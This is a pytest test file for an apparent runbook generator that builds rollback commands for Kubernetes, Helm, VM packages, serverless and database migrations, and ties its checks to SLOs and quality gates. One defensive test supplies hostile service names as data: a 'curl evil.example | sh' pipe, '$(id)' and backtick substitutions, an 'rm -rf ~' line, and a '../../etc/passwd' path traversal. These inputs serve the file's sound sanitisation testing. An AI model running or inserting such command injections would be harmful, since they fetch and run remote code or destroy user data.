"""Rollback runbooks: the right commands per deployment kind, checks tied to SLOs and gates."""

from __future__ import annotations

import shutil
from datetime import UTC, datetime
from pathlib import Path

import pytest

from opsledger.core.config import Deployment, SloBudget
from opsledger.core.inputs import Context
from opsledger.core.workspace import open_workspace
from opsledger.model.gates import GateSpec, Operator
from opsledger.model.slo import HealthSource, Slo, SloWindow
from opsledger.quality.rollback import (
    ServiceFacts,
    build_runbook,
    deployment_kind,
    names_service,
)
from opsledger.quality.runbooks import runbook_file_name, runbook_markdown, write_runbooks

NOW = datetime(2026, 11, 1, tzinfo=UTC)
BUDGET = SloBudget(availability=0.999, latency_p95_ms=300)


def commands(kind: Deployment, name: str = "checkout") -> str:
    runbook = build_runbook(ServiceFacts(name, kind, "opsledger.yaml", "payments", 0), BUDGET)
    return "\n".join(c for step in (*runbook.prepare, *runbook.rollback) for c in step.commands)


def test_kubernetes_uses_rollout_undo_and_status():
    text = commands(Deployment.KUBERNETES)
    assert 'kubectl -n "$NAMESPACE" rollout undo deployment/checkout --to-revision="$REVISION"' \
        in text
    assert 'kubectl -n "$NAMESPACE" rollout status deployment/checkout --timeout=10m' in text
    assert "rollout history deployment/checkout" in text


def test_helm_rolls_back_to_a_revision_and_waits():
    text = commands(Deployment.HELM)
    assert 'helm -n "$NAMESPACE" rollback checkout "$REVISION" --wait --timeout 10m' in text
    assert 'helm -n "$NAMESPACE" history checkout' in text


def test_vm_package_downgrades_and_pins():
    text = commands(Deployment.VM_PACKAGE, "inventory")
    assert 'sudo apt-get install --allow-downgrades inventory="$PREVIOUS_VERSION"' in text
    assert "sudo apt-mark hold inventory" in text
    assert 'sudo dnf downgrade inventory-"$PREVIOUS_VERSION"' in text
    assert 'sudo dnf versionlock add inventory-"$PREVIOUS_VERSION"' in text


def test_serverless_shifts_the_alias_back_and_clears_canary_weights():
    text = commands(Deployment.SERVERLESS, "notifications")
    assert ('aws lambda update-alias --function-name notifications --name "$ALIAS" '
            '--function-version "$PREVIOUS_VERSION" --routing-config '
            "'AdditionalVersionWeights={}'") in text
    assert ('gcloud run services update-traffic notifications '
            '--to-revisions="$PREVIOUS_REVISION"=100') in text


def test_database_migration_has_down_migration_restore_and_data_loss_notes():
    runbook = build_runbook(ServiceFacts("ledger-db", Deployment.DATABASE_MIGRATION,
                                         "opsledger.yaml", "payments", 0), BUDGET)
    text = "\n".join(c for step in (*runbook.prepare, *runbook.rollback) for c in step.commands)
    assert "alembic downgrade -1" in text
    assert "pg_dump --format=custom" in text
    assert "restore-db-instance-to-point-in-time" in text
    assert any("loses every write after the restore point" in n for n in runbook.data_loss)
    assert runbook.escalate_when[0].startswith("Rows were written in the new schema")
    assert "## Data loss" in runbook_markdown(runbook)


def test_verification_ties_back_to_budget_slos_and_gates():
    slo = Slo("checkout", "availability", 0.9995, SloWindow(28),
              HealthSource("checkout", "http"), source_format="openslo",
              source_path="slos/checkout.yaml", source_line=3)
    gates = [
        GateSpec("checkout-p95", "checkout_latency_p95_ms", Operator.LE, 300, None, 1, False),
        GateSpec("availability", "worst_critical_availability", Operator.GE, 0.999, 0.9995, 3,
                 True),
        GateSpec("checkout-api", "x", Operator.LE, 1, None, 1, False),  # another service
        GateSpec("coverage", "coverage", Operator.GE, 0.7, None, 1, False, advisory=True),
        GateSpec("errors", "error_rate", Operator.LE, 0.01, None, 1, False),  # blocks, no key
    ]
    runbook = build_runbook(ServiceFacts("checkout", Deployment.KUBERNETES, "opsledger.yaml"),
                            BUDGET, gates, [slo], ["checkout", "checkout-api"])
    targets = {c.what: c.target for c in runbook.checks}
    assert targets["Availability back at its objective"].startswith(">= 99.9%")
    # fast burn: 14.4 x 0.1 % = 1.44 %
    assert "error rate < 1.440%" in targets["Error budget no longer burning fast"]
    assert targets["Latency back under its objective"] == "p95 <= 300 ms"
    assert targets["SLO 'availability' recovering"] == "SLI >= 99.95% over the last hour"
    assert targets["Gate 'checkout-p95'"] == "checkout_latency_p95_ms <= 300"
    assert "Gate 'checkout-api'" not in targets
    assert targets["Blocking quality gates pass"] == (
        "worst_critical_availability >= 0.999, x <= 1, error_rate <= 0.01")  # not the advisory
    sources = {c.what: c.source for c in runbook.checks}
    assert sources["Gate 'checkout-p95'"] == "gates_config.yaml (blocking)"
    assert any("1.440%" in c for c in runbook.roll_back_when)


def test_gate_naming_is_by_whole_name():
    gate = GateSpec("p95", "latency_p95_ms", Operator.LE, 1, None, 1, False, "cart and checkout")
    assert names_service(gate, "checkout") and names_service(gate, "cart")
    assert not names_service(gate, "check")
    api = GateSpec("checkout-api-p95", "p95", Operator.LE, 1, None, 1, False)
    assert names_service(api, "checkout-api", ["checkout", "checkout-api"])
    assert not names_service(api, "checkout", ["checkout", "checkout-api"])
    assert names_service(api, "checkout")  # without the service list it cannot tell


@pytest.mark.parametrize(("text", "kind"), [
    ("k8s", Deployment.KUBERNETES), ("Helm", Deployment.HELM), ("rpm", Deployment.VM_PACKAGE),
    ("AWS Lambda", None), ("lambda", Deployment.SERVERLESS),
    ("DB migration", Deployment.DATABASE_MIGRATION), ("", None), (None, None),
])
def test_catalog_spellings(text: str | None, kind: Deployment | None):
    assert deployment_kind(text) is kind


def test_unsafe_service_names_make_safe_file_names():
    assert runbook_file_name("../../etc/passwd") == "etc-passwd.md"
    assert runbook_file_name("api gateway") == "api-gateway.md"


@pytest.mark.parametrize("kind", list(Deployment))
@pytest.mark.parametrize(
    "name", ["x; curl evil.example | sh", "$(id)", "a`id`", "a\n```\nrm -rf ~"]
)
def test_a_hostile_service_name_never_reaches_a_runbook_command(kind: Deployment, name: str):
    runbook = build_runbook(ServiceFacts(name, kind, "opsledger.yaml", "team; id", 0), BUDGET)
    text = commands(kind, name)
    assert name not in text and "curl" not in text and "`" not in text and "$(" not in text
    if text:
        assert '"$WORKLOAD"' in text
        assert runbook.variables[0][0] == "WORKLOAD"
    # An owner that is not a plain name is not offered as the namespace either.
    assert all(";" not in value for _, value, _ in runbook.variables)
    markdown = runbook_markdown(runbook)
    fenced = markdown.split("```sh")[1:]
    assert all("curl" not in block.split("```")[0] for block in fenced)


def test_runbooks_are_written_per_service_from_the_demo(small_demo: Path, tmp_path: Path):
    root = tmp_path / "ws"
    shutil.copytree(small_demo, root)
    ctx = Context.open(open_workspace(root), NOW)
    written = write_runbooks(ctx)
    names = {s.name: s.deployment for s in ctx.workspace.config.services}
    assert {r.service.name for r in written.runbooks} == set(names)
    for runbook in written.runbooks:
        assert runbook.service.kind is names[runbook.service.name]
        path = root / ".artifacts/protocol-09/rollback" / f"{runbook.service.name}.md"
        text = path.read_text()
        assert text.startswith(f"# Rollback runbook: {runbook.service.name}")
        expected = {Deployment.KUBERNETES: "kubectl", Deployment.HELM: "helm -n",
                    Deployment.VM_PACKAGE: "apt-get install", Deployment.SERVERLESS:
                    "update-alias", Deployment.DATABASE_MIGRATION: "downgrade"}
        assert expected[runbook.service.kind] in text
    # the runbook names the metric by its current name, whichever name the gate used
    assert "critical_vulnerabilities_overdue == 0" in (root / ".artifacts/protocol-09/rollback/"
                                                        "checkout.md").read_text()
    assert written.index.read_text().count("](") == len(names)
